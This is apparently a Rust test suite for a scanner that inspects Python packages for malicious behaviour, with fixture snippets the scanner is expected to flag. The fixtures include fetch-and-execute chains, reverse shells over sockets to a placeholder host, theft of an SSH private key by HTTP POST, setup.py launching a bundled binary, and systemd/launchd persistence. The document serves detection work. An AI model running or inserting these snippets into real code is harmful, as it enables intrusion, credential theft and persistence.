//! How something comes in and is started, also where nothing is known of the project; and what only looks like it.

use packhouse_inspect::{Class, Contents};

use crate::{alone, expect, expect_pass, new, python, wheel};

fn alone_with(code: &str) -> packhouse_inspect::Report {
    alone(&wheel(&[("p/a.py", code)]))
}

#[test]
fn a_program_that_is_fetched_and_made_executable_is_high_for_a_new_project_too() {
    for code in [
        "import os, subprocess, urllib.request\ndef f():\n    urllib.request.urlretrieve('https://a.invalid/x', '/tmp/x')\n    os.chmod('/tmp/x', 0o755)\n    subprocess.Popen(['/tmp/x'])",
        "import os, requests\nfrom pathlib import Path\np = Path('x')\np.write_bytes(requests.get('https://a.invalid').content)\np.chmod(0o700)\nos.system('./x')",
        "import subprocess\nsubprocess.run(['curl', '-sL', 'https://a.invalid/x.pyz', '-o', '/tmp/x.pyz'])\nsubprocess.Popen(['python3', '/tmp/x.pyz'])",
        "import os\nos.system('wget -O /tmp/x https://a.invalid/x')\nos.system('sh /tmp/x')",
    ] {
        expect(&alone_with(code), "S13", Class::High);
        expect(&python(code), "S13", Class::High);
    }
    for code in [
        // Fetched and kept; a program that was there anyway.
        "import subprocess, urllib.request\ndef f():\n    subprocess.run(['curl', '-o', 'data.json', 'https://a.invalid/data.json'])\n    subprocess.run(['ls', '-l'])",
        "import os\ndef f(path):\n    os.chmod(path, 0o644)",
        "import os, subprocess\ndef f(path):\n    os.chmod(path, 0o755)\n    subprocess.run([path])",
    ] {
        expect_pass(&alone_with(code));
    }
}

/// What the functions of a file do together counts where none of it was there before, and informs in a new project.
#[test]
fn a_delivery_over_several_functions_is_high_in_a_difference() {
    let code = "import os, subprocess, urllib.request\n\
                def get(url, path):\n    urllib.request.urlretrieve(url, path)\n\
                def start(path):\n    os.chmod(path, 0o770)\n    subprocess.Popen([path])\n";
    expect(&python(code), "S13", Class::High);
    expect_pass(&alone_with(code));
    // In tests it deserves a look and no more.
    let aside = wheel(&[("tests/test_a.py", code)]);
    expect_pass(&new(&aside));
}

#[test]
fn a_shell_over_a_socket_is_high() {
    for code in [
        "import os, pty, socket\ns = socket.socket()\ns.connect(('a.invalid', 443))\nfor n in (0, 1, 2):\n    os.dup2(s.fileno(), n)\npty.spawn('/bin/sh')",
        "import socket, subprocess\ndef f():\n    s = socket.create_connection(('a.invalid', 443))\n    subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno())",
        "import socket, subprocess\ns = socket.socket()\ns.connect(('a.invalid', 443))\nwhile True:\n    subprocess.run(s.recv(1024).decode(), shell=True)",
    ] {
        expect(&alone_with(code), "S13", Class::High);
    }
    for code in [
        "import os\ndef redirect(log):\n    os.dup2(log.fileno(), 1)\n    os.system('ls')",
        "import socket\ndef ask(s):\n    s = socket.create_connection(('a.invalid', 80))\n    return s.recv(1024)",
    ] {
        expect_pass(&alone_with(code));
    }
}

/// What was read stays what it is when it is put into a container, or searched.
#[test]
fn secrets_are_followed_through_containers_and_searches() {
    for code in [
        "import json, urllib.request\ndef collect():\n    found = {}\n    found['k'] = open('/home/u/.ssh/id_rsa').read()\n    return found\nurllib.request.urlopen('https://a.invalid', data=json.dumps(collect()).encode())",
        "import re, requests\ndef tokens(path):\n    found = []\n    for line in open(path):\n        found += re.findall('[a-z]+', line)\n    return found\nrequests.post('https://a.invalid', json=tokens('/home/u/.ssh/id_rsa'))",
    ] {
        expect(&alone_with(code), "S06", Class::Block);
    }
    expect_pass(&alone_with(
        "import json, requests\ndef collect():\n    found = {}\n    found['k'] = open('notes.txt').read()\n    return found\nrequests.post('https://a.invalid', json=collect())",
    ));
}

#[test]
fn machine_code_that_a_setup_py_starts_is_high() {
    let sdist = |setup: &str, name: &str| {
        Contents::from_files([
            ("p-1/setup.py", setup.as_bytes().to_vec()),
            ("p-1/PKG-INFO", b"Metadata-Version: 2.1\nName: p\nVersion: 1\n".to_vec()),
            (name, b"\x7fELF\x02\x01\x01".to_vec()),
        ])
    };
    let starts = "import os, subprocess\nfrom setuptools import setup\nhere = os.path.dirname(__file__)\nsubprocess.call([os.path.join(here, 'p', 'tool.exe')])\nsetup(name='p')";
    expect(&alone(&sdist(starts, "p-1/p/tool.exe")), "S11", Class::High);
    // Launchers that are only packed, and programs of the machine.
    let packs = "from setuptools import setup\nsetup(name='p', package_data={'p': ['tool.exe']})";
    let compiles =
        "import subprocess\nfrom setuptools import setup\nsubprocess.call(['cmake', '.'])\nsetup(name='p')";
    for setup in [packs, compiles] {
        let report = alone(&sdist(setup, "p-1/p/tool.exe"));
        assert!(!report.findings.iter().any(|f| f.rule == "S11" && f.class > Class::Info), "{report:#?}");
    }
}

#[test]
fn a_service_that_is_written_and_enabled_is_high_for_a_new_project_too() {
    for code in [
        "import os, subprocess\ndef f():\n    with open(os.path.expanduser('~/.config/systemd/user/p.service'), 'w') as f:\n        f.write('[Unit]')\n    subprocess.run(['systemctl', '--user', 'enable', '--now', 'p.service'])",
        "import os, shutil\nshutil.copy('p.plist', os.path.expanduser('~/Library/LaunchAgents/p.plist'))\nos.system('launchctl load ~/Library/LaunchAgents/p.plist')",
    ] {
        expect(&alone_with(code), "S24", Class::High);
    }
    for code in [
        "import subprocess\ndef restart():\n    subprocess.run(['systemctl', 'restart', 'nginx'])",
        "import subprocess\ndef note(path):\n    open(path, 'w').write('a')\n    subprocess.run(['systemctl', 'status', 'nginx'])",
    ] {
        expect_pass(&alone_with(code));
    }
}

#[test]
fn overwriting_every_file_of_a_tree_is_high_in_a_difference() {
    let code = "import os\ndef f(path):\n    for folder, _, names in os.walk(path):\n        for name in names:\n            with open(os.path.join(folder, name), 'w') as out:\n                out.write('inert')";
    expect(&python(code), "S23", Class::High);
    for code in [
        // Makes packages of folders.
        "import os\ndef f(path):\n    for folder, _, names in os.walk(path):\n        with open(os.path.join(folder, '__init__.py'), 'w') as out:\n            out.write('')",
        // Changes what is there.
        "import os\ndef f(path):\n    for folder, _, names in os.walk(path):\n        for name in names:\n            text = open(os.path.join(folder, name)).read()\n            with open(os.path.join(folder, name), 'w') as out:\n                out.write(text.upper())",
    ] {
        expect_pass(&python(code));
    }
}
